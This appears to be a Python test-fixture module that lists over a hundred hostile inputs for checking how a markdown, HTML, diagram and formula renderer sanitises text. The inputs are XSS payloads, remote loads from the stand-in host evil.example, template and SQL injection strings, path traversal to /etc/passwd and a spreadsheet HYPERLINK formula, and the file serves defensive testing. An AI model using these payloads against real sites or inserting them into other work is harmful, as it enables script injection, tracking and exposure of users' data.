"""Texts that try to run a script, load something from elsewhere, or lead where they do not say.

Each that can run says so by `pwned()`; each that can load asks `evil.example`.
"""

EVIL = "evil.example"
_URL = f"http://{EVIL}/x"

TAGS = [
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import('http://evil.example/x')</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<<script>pwned();//<</script>",
    "<script\x0c>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "'\"><script>pwned()</script>",
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "<template><script>pwned()</script></template>",
]
EVENTS = [
    "<img src=x onerror=pwned()>",
    "<img src=x onerror='pwned()'//",
    "<img/src/onerror=pwned()>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<marquee onstart=pwned()>x</marquee>",
    "<div onpointerover=pwned() style='position:fixed;inset:0'>x</div>",
    "<p style=animation:x onanimationstart=pwned()>x</p>",
    "<button popovertarget=x onclick=pwned()>x</button>",
    '" onmouseover=pwned() autofocus onfocus=pwned() x="',
    "' onmouseover='pwned()' x='",
    "` onmouseover=pwned() `",
]
DRAWINGS = [
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()></svg>#x'></svg>",
    "<svg><image href=http://evil.example/x.svg></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<svg><style>@import 'http://evil.example/x.css';</style></svg>",
    "<math><a xlink:href=javascript:pwned()>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
]
LINKS = [
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java&#x0A;script:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](javascript&colon;pwned())",
    "[x](<javascript:pwned()>)",
    "[x](\x01javascript:pwned())",
    "[x](java\tscript:pwned())",
    "[x](vbscript:pwned())",
    "[x](data:text/html,<script>opener.pwned()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](blob:http://localhost/x)",
    "[x](file:///etc/passwd)",
    "<javascript:pwned()>",
    "<data:text/html,x>",
    "[x][js-link]\n\n[js-link]: javascript:pwned()",
    "[js-short]\n\n[js-short]: javascript:pwned() 'x'",
    "[x]( javascript:pwned() 'x\" onclick=\"pwned()')",
    "<a href=javascript:pwned()>x</a>",
    "<a href='jav\tascript:pwned()'>x</a>",
    '<a href="data:text/html,<script>pwned()</script>">x</a>',
    "<form action=javascript:pwned()><button>x</button></form>",
    "<button formaction=javascript:pwned()>x</button>",
    "<map><area href=javascript:pwned()></map>",
    "<base href=javascript:/pwned()//>",
]
FRAMES = [
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    f"<iframe src={_URL}></iframe>",
    f"<object data={_URL}></object>",
    f"<embed src={_URL}>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/x'>",
    f"<base href={_URL}/>",
    f"<link rel=stylesheet href={_URL}.css>",
    f"<link rel=prefetch href={_URL}>",
    f"<portal src={_URL}></portal>",
]
PICTURES = [
    f"![x]({_URL}.png)",
    f"![x](<{_URL}.png> 'title')",
    f"!![x]({_URL}.png)",
    f"\\\\![x]({_URL}.png)",
    f"![a [b] c]({_URL}.png)",
    f"![a\\]b]({_URL}.png)",
    "![x](//evil.example/x.png)",
    "![x](https:\\\\evil.example/x.png)",
    f"![far]\n\n[far]: {_URL}.png",
    f"![x][far-off]\n\n[far-off]: {_URL}.png",
    f"[![x]({_URL}.png)](javascript:pwned())",
    f"# ![x]({_URL}.png)",
    f"| a |\n|---|\n| ![x]({_URL}.png) |",
    f"> ![x]({_URL}.png)",
    f"- ![x]({_URL}.png)",
    "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>)",
    f"<img src={_URL}.png>",
    f"<img srcset='{_URL}.png 1x'>",
    f"<picture><source srcset={_URL}.png><img></picture>",
    f"<video poster={_URL}.png autoplay src={_URL}.mp4></video>",
    f"<input type=image src={_URL}.png>",
    f"<table background={_URL}.png><tr><td>x</table>",
]
STYLES = [
    f"<style>body{{background:url({_URL})}}</style>",
    f"<style>@import '{_URL}.css'</style>",
    f"<div style='background:url({_URL})'>x</div>",
    "<div style='width:expression(pwned())'>x</div>",
    f'<p style="behavior:url({_URL})">x</p>',
    f":red[x](style='background:url({_URL})')",
]


def _diagram(*lines):
    return "\n".join(["```mermaid", *lines, "```"])


_FLOW = "flowchart TD"
DIAGRAMS = [
    _diagram(_FLOW, "  A[x] --> B[y]", '  click A "javascript:pwned()"'),
    _diagram(_FLOW, "  A[x] --> B[y]", "  click A call pwned()"),
    _diagram(_FLOW, "  A[x] --> B[y]", '  click B href "javascript:pwned()" _self'),
    _diagram(_FLOW, '  A["<img src=x onerror=pwned()>"] --> B'),
    _diagram(_FLOW, f"  A[\"<img src='{_URL}.png'>\"] --> B"),
    _diagram(_FLOW, '  A["<script>pwned()</script>"] --> B'),
    _diagram(_FLOW, "  A[\"<iframe srcdoc='<script>parent.pwned()</script>'>\"] --> B"),
    _diagram(_FLOW, f'  A@{{ img: "{_URL}.png", label: "x" }}', "  A --> B"),
    _diagram(
        "%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%",
        _FLOW,
        '  A["<img src=x onerror=pwned()>"] --> B',
        "  click A call pwned()",
    ),
    _diagram(f"%%{{init: {{'themeCSS': '@import url({_URL}.css);'}}}}%%", _FLOW, "  A --> B"),
    _diagram(
        f"%%{{init: {{'fontFamily': 'x;}} *{{background:url({_URL})}}'}}}}%%", _FLOW, "  A --> B"
    ),
    _diagram(_FLOW, "  A --> B", f"  style A fill:url({_URL})"),
    _diagram(_FLOW, "  A --> B", f"  classDef x background:url({_URL})", "  class A x"),
    _diagram(
        "---",
        "config:",
        "  securityLevel: loose",
        "---",
        _FLOW,
        "  A --> B",
        "  click A call pwned()",
    ),
    _diagram(
        "sequenceDiagram",
        "  A->>B: <img src=x onerror=pwned()>",
        "  link A: x @ javascript:pwned()",
    ),
    _diagram("classDiagram", "  class A", '  link A "javascript:pwned()"'),
]
FORMULAS = [
    r"$\href{javascript:pwned()}{x}$",
    r"$\url{javascript:pwned()}$",
    rf"$\includegraphics{{{_URL}.png}}$",
    r"$\htmlData{x=y}{x}$ $\htmlStyle{position:fixed}{x}$ $\htmlId{root}{x}$",
    r"$$\def\x{\x\x}\x$$",
    r"$\unicode{<img src=x onerror=pwned()>}$",
]
DIRECTIVES = [
    ":material/home:",
    ":red[x] :blue-background[x] :rainbow[x] :small[x]",
    ":violet-badge[:material/star: x]",
    ":streamlit: :smile: :x:",
    ":color[x]{foreground=url(http://evil.example/x)}",
    ":image[x]{src=http://evil.example/x.png}",
    ":shortcut[Ctrl+K]",
    "-> <- <-> >= <= ~= --",
    "[^1]\n\n[^1]: <img src=x onerror=pwned()>",
]
TEMPLATES = [
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "#{pwned()}",
    "<%= pwned() %>",
    "{{7*7}}{%raw%}",
    "{0.__class__.__mro__}",
    "%(x)s %s %n",
    "__proto__",
    "constructor",
    "datum.x; pwned()",
]
ODD = [
    "＜script＞pwned()＜/script＞",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "\u202e<script>pwned()</script>",
    "<scri\u200dpt>pwned()</scri\u200dpt>",
    "ja\u00advascript:pwned()",
    "javascript:pwned()",
    "javascript://%0apwned()",
    "www.evil.example/x http://evil.example/x a@evil.example",
    "<!--[if IE]><script>pwned()</script><![endif]-->",
    "<?xml-stylesheet href='http://evil.example/x'?>",
    "<![CDATA[<script>pwned()</script>]]>",
    '=HYPERLINK("http://evil.example/x")',
    "'; DROP TABLE question; --",
    "../../../../etc/passwd",
    "a\u2028b\u2029c",
]

ALL = [
    *TAGS,
    *EVENTS,
    *DRAWINGS,
    *LINKS,
    *FRAMES,
    *PICTURES,
    *STYLES,
    *DIAGRAMS,
    *FORMULAS,
    *DIRECTIVES,
    *TEMPLATES,
    *ODD,
]
assert len(ALL) >= 100
assert len(set(ALL)) == len(ALL)


def one_line(text):
    """Return a text as it can stand in a title."""
    return " ".join(text.split())
